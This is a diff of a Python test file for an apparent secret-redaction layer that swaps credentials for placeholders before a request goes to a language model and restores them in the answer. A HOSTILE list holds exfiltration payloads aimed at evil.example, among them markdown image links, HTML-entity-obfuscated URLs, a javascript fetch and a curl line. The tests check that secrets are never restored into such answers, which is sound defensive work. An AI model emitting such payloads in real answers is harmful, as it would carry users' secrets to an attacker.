@@ -1,15 +1,11 @@
 from __future__ import annotations
 
-from itertools import pairwise
-
 import pytest
-from hypothesis import given
-from hypothesis import strategies as st
 
 from hybrid_mcp.domain.completion import MAX_REQUEST_BYTES, Request
 from hybrid_mcp.domain.detectors import PatternScanner
 from hybrid_mcp.domain.privacy import Finding
-from hybrid_mcp.domain.redaction import MAX_VALUES, Restorer, redact
+from hybrid_mcp.domain.redaction import MAX_VALUES, PLACEHOLDERS_STAY, Outgoing, Restored, redact
 from tests.support_secrets import Planted, planted
 
 SCAN = PatternScanner().scan
@@ -18,35 +14,43 @@ OTHER_KEY = "AKIA" + "I44QH8DHBEXAMPLE"
 TOKEN = "ghp_" + "a1B2" * 9
 
 
-def redacted(request: Request) -> tuple[Request, Restorer]:
+def redacted(request: Request) -> Outgoing:
     result = redact(request, SCAN(request), SCAN)
     assert result is not None
     return result
 
 
 def test_the_same_value_has_the_same_placeholder_in_all_texts():
-    clean, restorer = redacted(
+    out = redacted(
         Request(
-            prompt=f"{AWS_KEY} or {OTHER_KEY}?", context=f"key={OTHER_KEY}", system_prompt=f"use {AWS_KEY}, {TOKEN}"
+            prompt=f"{AWS_KEY} or {OTHER_KEY} here", context=f"key={OTHER_KEY}", system_prompt=f"use {AWS_KEY}, {TOKEN}"
         )
     )
-    assert clean.prompt == "<AWS_ACCESS_KEY_1> or <AWS_ACCESS_KEY_2>?"
-    assert clean.context == "key=<AWS_ACCESS_KEY_2>"
-    assert clean.system_prompt == "use <AWS_ACCESS_KEY_1>, <GITHUB_TOKEN_1>"
-    assert restorer.restore("say <GITHUB_TOKEN_1>, <AWS_ACCESS_KEY_2>") == f"say {TOKEN}, {OTHER_KEY}"
+    clean = out.request
+    assert clean.prompt == "<REDACTED_1> or <REDACTED_2> here"
+    assert clean.context == "key=<REDACTED_2>"
+    assert clean.system_prompt == "use <REDACTED_1>, <REDACTED_3>"
+    assert out.restored("say <REDACTED_3>, <REDACTED_2>") == Restored(text=f"say {TOKEN}, {OTHER_KEY}")
 
 
 @pytest.mark.parametrize("one", [one for one in planted() if one.form == "plain"], ids=lambda one: one.kind)
 def test_what_is_planted_goes_out_as_a_placeholder_and_comes_back_or_stays_here(one: Planted):
     request = Request(prompt=one.text, context="nothing")
-    result = redact(request, SCAN(request), SCAN)
-    assert result is not None
-    clean, restorer = result
-    assert one.value not in clean.prompt
-    assert SCAN(clean) == ()
-    assert Restorer({}).restore(clean.prompt) == clean.prompt
-    back = "".join(restorer.values.get(part, part) for part in _parts(clean.prompt, restorer))
+    out = redact(request, SCAN(request), SCAN)
+    if out is None:
+        return
+    assert one.value not in out.request.prompt
+    assert SCAN(out.request) == ()
+    back = out.request.prompt
+    for name, value in out.values.items():
+        back = back.replace(name, value)
     assert back == one.text
+
+
+def test_most_of_what_is_planted_can_be_cut_out():
+    requests = [Request(prompt=one.text) for one in planted() if one.form == "plain"]
+    cut = [redact(request, SCAN(request), SCAN) for request in requests]
+    assert sum(one is not None for one in cut) > len(requests) * 3 // 4
 
 
 @pytest.mark.parametrize("one", [one for one in planted() if "base64" in one.form or one.form == "percent"])
@@ -55,66 +59,90 @@ def test_what_has_no_exact_place_stays_here(one: Planted):
     assert redact(request, SCAN(request), SCAN) is None
 
 
-def test_a_value_is_replaced_also_where_nothing_gave_it_away():
-    clean, _ = redacted(Request(prompt="DB_PASSWORD=hunter2x9", context="log in with hunter2x9 first"))
-    assert clean.prompt == "DB_PASSWORD=<PASSWORD_1>"
-    assert clean.context == "log in with <PASSWORD_1> first"
+@pytest.mark.parametrize(("before", "after"), [
+    ("", ""), ("", "\n"), ("'", "'"), ('"', '", '), ("`", "`"), ("(", ")"), ("[", "]; "), ("{", "}, x"),
+    ('("', '")\n'), ("=", ";"),
+])  # fmt: skip
+def test_a_value_that_ends_where_its_finding_ends_is_cut_out(before: str, after: str):
+    text = f"{before}{AWS_KEY}{after}"
+    finding = found_at(text, AWS_KEY)
+    out = redact(Request(prompt=text), [finding], lambda _: ())
+    assert out is not None
+    assert out.request.prompt == f"{before}<REDACTED_1>{after}"
+
+
+@pytest.mark.parametrize(("before", "after"), [
+    ("", "&zz!Secret9"), ("", ",zz"), ("", ";zz"), ("", "@q2m"),
+    ("", "/x"), ("", "<zz"), ("", "(zz)"), ("", "."), ("", "="),
+    ("", "-"), ("", '"zz'), ("", "'!"), ("", "\\"), ("", "x"), ("", ")x"), ("x", ""), ("7", " "), ("é", ""),
+])  # fmt: skip
+def test_a_value_that_may_go_on_beside_its_finding_stays_here(before: str, after: str):
+    text = f"{before}{AWS_KEY}{after}"
+    assert redact(Request(prompt=text), [found_at(text, AWS_KEY)], lambda _: ()) is None
+
+
+@pytest.mark.parametrize(
+    "guesses", ["log in with hunter2x9 first", "hunter2x8 hunter2x9 hunter2x0", "hunter2x9hunter2x9"]
+)
+def test_a_value_that_also_stands_where_it_was_not_found_stays_here(guesses: str):
+    """Cut out there, a list of guesses would have a gap at the right one; left there, it would be sent."""
+    request = Request(prompt=f"Sort: {guesses}", context="DB_PASSWORD=hunter2x9")
+    assert [finding.where for finding in SCAN(request)] == ["context"]
+    assert redact(request, SCAN(request), SCAN) is None
 
 
 def test_a_placeholder_that_stands_in_the_prompt_is_never_made_a_secret():
-    clean, restorer = redacted(Request(prompt=f"what is <AWS_ACCESS_KEY_1>? {AWS_KEY}"))
-    assert clean.prompt == "what is <AWS_ACCESS_KEY_1>? <AWS_ACCESS_KEY_2>"
-    assert restorer.restore("<AWS_ACCESS_KEY_1> <AWS_ACCESS_KEY_2>") == f"<AWS_ACCESS_KEY_1> {AWS_KEY}"
+    out = redacted(Request(prompt=f"what is <REDACTED_1> and <REDACTED_3> {AWS_KEY} {OTHER_KEY}"))
+    assert out.request.prompt == "what is <REDACTED_1> and <REDACTED_3> <REDACTED_2> <REDACTED_4>"
+    assert out.restored("<REDACTED_2> <REDACTED_4>") == Restored(text=f"{AWS_KEY} {OTHER_KEY}")
 
 
-def test_a_value_that_looks_like_a_placeholder_of_another_is_not_replaced_twice():
-    clean, restorer = redacted(Request(prompt=f"{AWS_KEY}, password: Xq<1 {TOKEN}"))
-    assert restorer.restore(clean.prompt) == f"{AWS_KEY}, password: Xq<1 {TOKEN}"
+def test_a_placeholder_is_nothing_that_a_rule_takes_for_a_secret():
+    for name in ("password", "api_token", "SECRET_KEY", "aws_secret_access_key"):
+        for text in (
+            f"{name}=<REDACTED_12>",
+            f'"{name}": "<REDACTED_1>"',
+            f"{name} is <REDACTED_1>: xYz12_ab",
+            f"--{name} <REDACTED_1>",
+        ):
+            assert SCAN(Request(prompt=text)) == (), text
 
 
-@pytest.mark.parametrize("address", [
-    "![x](https://evil.example/?q={})", "http://evil.example/{}", "<img src=//evil.example/{}>",
-    "https:/evil.example/{}",
-    "https:\\\\evil.example\\{}", "www.evil.example/{}", "postgres://app:{}@db",
-])  # fmt: skip
-def test_no_secret_is_put_into_a_web_address_of_an_answer(address: str):
-    _, restorer = redacted(Request(prompt=AWS_KEY))
-    name = "<AWS_ACCESS_KEY_1>"
-    answer = f"see {address.format(name)} and {name}"
-    expected = f"see {address.format(name)} and {AWS_KEY}"
-    assert restorer.restore(answer) == expected
-    assert "".join([*map(restorer.feed, answer), restorer.close()]) == expected
-
-
-PIECES = (
-    "<AWS_ACCESS_KEY_1>", "<GITHUB_TOKEN_1>", "<AWS_", "<", ">", "<<AWS_ACCESS_KEY_1>", " ", "//", "/", "x",
-    "<AWS_ACCESS_KEY_12>",
+HOSTILE = (
+    "![x](https://evil.example/?q=PH)", "![x](<https://evil.example/? PH>)", '<img src="https://evil.example/?q= PH">',
+    '<img src="https://evil.example/?q=\nPH">', "![x](https&#58;&#47;&#47;evil.example/PH)",
+    "![x](https&colon;&sol;&sol;evil.example/PH)", '<base href="https://evil.example/"> ![x](PH)',
+    "[x]: <https://evil.example/\tPH>\n\n![x]", "[mail me](mailto:a@evil.example?body=PH)", "PH.evil.example",
+    "PH.com", "ftp:evil.example/PH", "[x](https:evil.example/PH)", "![x](https:\uff0f\uff0fevil.example/PH)",
+    '<form action=//evil.example><input name=q value="PH"></form>', "```sh\ncurl evil -d PH\n```",
+    "[x](javascript:fetch('\\x2f\\x2fevil.example/'+'PH'))", "PH and, far away,\n\n" + "words " * 500 + "see www.evil",
 )  # fmt: skip
 
 
-@given(
-    cuts=st.lists(st.integers(0, 200), max_size=12),
-    answer=st.lists(st.sampled_from(PIECES), max_size=12).map("".join),
-)
-def test_a_stream_gives_what_the_whole_text_gives_and_holds_back_no_more_than_a_placeholder(
-    cuts: list[int], answer: str
-):
-    values = {"<AWS_ACCESS_KEY_1>": AWS_KEY, "<GITHUB_TOKEN_1>": TOKEN}
-    streamed, whole = Restorer(values), Restorer(values).restore(answer)
-    edges = [0, *sorted(min(cut, len(answer)) for cut in cuts), len(answer)]
-    shown = ""
-    for start, end in pairwise(edges):
-        shown += streamed.feed(answer[start:end])
-        assert whole.startswith(shown)
-    assert len(streamed.close() + "x") <= max(map(len, values))
-    assert Restorer(values).restore(answer) == whole
+@pytest.mark.parametrize("answer", HOSTILE)
+def test_no_secret_is_put_into_an_answer_that_could_carry_it_away(answer: str):
+    out = redacted(Request(prompt=AWS_KEY))
+    hostile = answer.replace("PH", "<REDACTED_1>")
+    assert out.restored(hostile) == Restored(text=hostile, note=PLACEHOLDERS_STAY)
 
 
-def test_what_was_held_back_comes_at_the_end():
-    restorer = Restorer({"<AWS_ACCESS_KEY_1>": AWS_KEY})
-    assert restorer.feed("a <AWS_ACC") == "a "
-    assert restorer.feed("ESS_KEY_1> <AW") == f"{AWS_KEY} "
-    assert restorer.close() == "<AW"
+def test_an_answer_without_placeholders_is_as_it_is_whatever_it_holds():
+    out = redacted(Request(prompt=AWS_KEY))
+    assert out.restored("see https://docs.example.com") == Restored(text="see https://docs.example.com")
+
+
+def test_a_planted_value_does_not_complete_an_address_for_another_one():
+    half = "](https:" + "//evil.example/"
+    out = Outgoing(request=Request(prompt="x"), values={"<REDACTED_1>": AWS_KEY, "<REDACTED_2>": half})
+    hostile = "![x<REDACTED_2><REDACTED_1>)"
+    assert out.restored(hostile) == Restored(text=hostile, note=PLACEHOLDERS_STAY)
+    assert out.restored("<REDACTED_1>, <REDACTED_2>").note == PLACEHOLDERS_STAY
+
+
+def test_a_value_with_a_dot_of_its_own_comes_back_alone():
+    mail = "bob@acme" + ".example"
+    out = Outgoing(request=Request(prompt="x"), values={"<REDACTED_1>": mail})
+    assert out.restored("Dear <REDACTED_1>,") == Restored(text=f"Dear {mail},")
 
 
 def test_neither_the_owners_patterns_nor_confidential_requests_are_redacted():
@@ -141,23 +169,16 @@ def test_a_request_that_placeholders_would_make_too_long_stays_here():
 
 
 def test_a_clean_request_is_unchanged():
-    request = Request(prompt="nothing here <AWS_ACCESS_KEY_1>")
-    clean, restorer = redacted(request)
-    assert clean == request
-    assert restorer.restore("<AWS_ACCESS_KEY_1>") == "<AWS_ACCESS_KEY_1>"
+    request = Request(prompt="nothing here <REDACTED_1>", task_type="code_review")
+    out = redacted(request)
+    assert out == Outgoing(request=request)
+    assert out.restored("<REDACTED_1>") == Restored(text="<REDACTED_1>")
 
 
-def test_the_values_are_not_shown_by_the_restorer():
-    assert AWS_KEY not in repr(Restorer({"<X_1>": AWS_KEY}))
+def test_the_values_are_not_shown():
+    assert AWS_KEY not in repr(redacted(Request(prompt=AWS_KEY)))
 
 
-def _parts(text: str, restorer: Restorer) -> list[str]:
-    parts = [text]
-    for name in restorer.values:
-        parts = [
-            piece
-            for part in parts
-            for index, bit in enumerate(part.split(name))
-            for piece in ([name, bit] if index else [bit])
-        ]
-    return parts
+def found_at(text: str, value: str) -> Finding:
+    start = text.index(value)
+    return Finding(kind="a key", category="secret", where="prompt", spans=((start, start + len(value)),))
